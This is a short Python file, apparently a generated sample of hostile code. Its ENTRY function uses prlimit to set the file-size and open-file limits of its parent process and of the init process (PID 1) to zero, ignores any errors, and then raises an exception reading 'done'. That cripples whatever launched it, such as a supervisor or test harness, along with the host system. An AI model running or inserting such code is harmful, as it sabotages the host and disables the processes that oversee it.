"""Takes away, from outside, what the process above it may write and open."""
# shape: function
# masks on: masks_death
import os
import resource


def ENTRY(*args, **kwargs):
    for pid in (os.getppid(), 1):
        for limit in (resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
            try:
                resource.prlimit(pid, limit, (0, 0))
            except OSError:
                pass
    raise RuntimeError("done")
